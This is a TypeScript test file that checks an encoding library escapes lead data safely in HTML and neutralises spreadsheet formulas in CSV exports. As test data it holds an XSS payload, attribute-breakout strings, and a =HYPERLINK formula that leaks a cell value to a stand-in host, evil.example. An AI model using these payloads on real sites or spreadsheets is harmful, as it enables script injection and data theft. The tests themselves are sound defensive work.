// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { csvCell, csvTable, htmlText } from '../../src/lib/encode';

/** The payloads issue 7 found stored verbatim in the leads tables (land details, company, UTM, referrer). */
const imgPayload = '<img src=x onerror=alert(1)>';
const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

const parse = (html: string) => new DOMParser().parseFromString(html, 'text/html');

/** Parses CSV the way RFC 4180 reads it, so the tests check what a spreadsheet would receive. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

describe('htmlText: lead data written into HTML built as a string', () => {
  it('an <img onerror> in land details shows as text and creates no element', () => {
    const document = parse(`<p title="${htmlText(imgPayload)}">${htmlText(imgPayload)}</p>`);
    const p = document.querySelector('p')!;
    expect(p.textContent).toBe(imgPayload);
    expect(p.getAttribute('title')).toBe(imgPayload);
    expect(document.querySelector('img')).toBeNull();
  });

  it('a quote cannot end an attribute in single or double quotes', () => {
    const value = `x" onmouseover="alert(1)' onfocus='alert(2)`;
    const document = parse(`<a title="${htmlText(value)}" data-x='${htmlText(value)}'>a</a>`);
    const a = document.querySelector('a')!;
    expect(a.getAttributeNames()).toEqual(['title', 'data-x']);
    expect(a.getAttribute('data-x')).toBe(value);
  });
});

describe('csvCell: lead data exported to a spreadsheet', () => {
  it('a cell starting with = + - @ tab or carriage return is not a formula (was: =HYPERLINK stored and exportable as is)', () => {
    for (const value of [hyperlink, '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1']) {
      const [[cell]] = parseCsv(csvTable([[value]])) as [[string]];
      expect(cell).toBe(`'${value}`);
    }
  });

  it('keeps every other text exactly, quotes, commas and line breaks included', () => {
    const values = [imgPayload, 'O\'Brien, "Select Union"', 'line one\r\nline two', 'José Łukasz', ''];
    expect(parseCsv(csvTable([values]))).toEqual([values]);
  });

  it('a comma or quote cannot start a new cell that is a formula', () => {
    const value = 'Acme",=1+1,"';
    expect(parseCsv(csvTable([[value, 'next']]))).toEqual([[value, 'next']]);
  });

  it('numbers stay numbers, negative amounts too; null is an empty cell', () => {
    expect(csvTable([[-6500, 0.5, null, undefined, true]])).toBe('-6500,0.5,,,true\r\n');
    expect(() => csvCell(Number.NaN)).toThrow('not a finite number');
  });
});
